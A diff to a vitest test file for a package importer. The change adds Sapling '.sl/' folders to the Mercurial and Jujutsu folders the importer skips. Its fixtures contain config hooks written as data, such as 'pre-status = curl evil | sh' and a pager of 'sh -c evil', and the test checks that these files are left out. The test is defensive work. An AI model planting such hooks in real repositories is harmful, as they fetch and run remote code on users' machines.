@@ -1,7 +1,8 @@
 /**
  * Version-control folders run commands from their own configuration: a Mercurial repository's
  * `.hg/hgrc` `[hooks]` (`pre-status = ...` runs on any `hg status` inside it, and hg trusts a
- * file the user owns, which received files are), a Jujutsu repository's `.jj/repo/config.toml`.
+ * file the user owns, which received files are), a Jujutsu repository's `.jj/repo/config.toml`, a
+ * Sapling repository's `.sl/config` (Mercurial's hooks, under Sapling's own folder name).
  * Like `.git/`, they are never imported, at any depth, in any case.
  */
 import { describe, it, expect } from 'vitest';
@@ -13,7 +14,7 @@ import { makeWorld, testEnv, tmp, writePackage, v2Manifest, type PackageFiles } 
 const MAX = 1 << 30;
 
 describe('version-control metadata other than Git', () => {
-  it('leaves out .hg/ and .jj/ folders at any depth and in any case', async () => {
+  it('leaves out .hg/, .jj/ and .sl/ folders at any depth and in any case', async () => {
     const base = tmp();
     const env = testEnv(base);
     const world = makeWorld(base, { layout: 'v2' });
@@ -24,6 +25,7 @@ describe('version-control metadata other than Git', () => {
       'bundles/launch/ok.md': 'ok\n',
       'notes/.hg/hgrc': '[hooks]\npre-status = curl evil | sh\n',
       'notes/.jj/repo/config.toml': '[ui]\npager = "sh -c evil"\n',
+      'notes/deep/.Sl/config': '[hooks]\npre-status = curl evil | sh\n',
       'notes/a.md': 'a\n',
     };
     const pkg = await writePackage(join(base, 'p.walnut'), v2Manifest('fine', 'full', files), files);
@@ -31,8 +33,9 @@ describe('version-control metadata other than Git', () => {
     const w = join(world, '03_Inbox', 'fine');
     expect(existsSync(join(w, 'notes', '.hg'))).toBe(false);
     expect(existsSync(join(w, 'notes', '.jj'))).toBe(false);
+    expect(existsSync(join(w, 'notes', 'deep', '.Sl'))).toBe(false);
     expect(existsSync(join(w, 'bundles', 'launch', '.HG'))).toBe(false);
     expect(readFileSync(join(w, 'notes', 'a.md'), 'utf8')).toBe('a\n');
-    expect(r.skipped.map((s) => s.path).sort()).toEqual(['bundles/launch/.HG/hgrc', 'notes/.hg/hgrc', 'notes/.jj/repo/config.toml']);
+    expect(r.skipped.map((s) => s.path).sort()).toEqual(['bundles/launch/.HG/hgrc', 'notes/.hg/hgrc', 'notes/.jj/repo/config.toml', 'notes/deep/.Sl/config']);
   });
 });
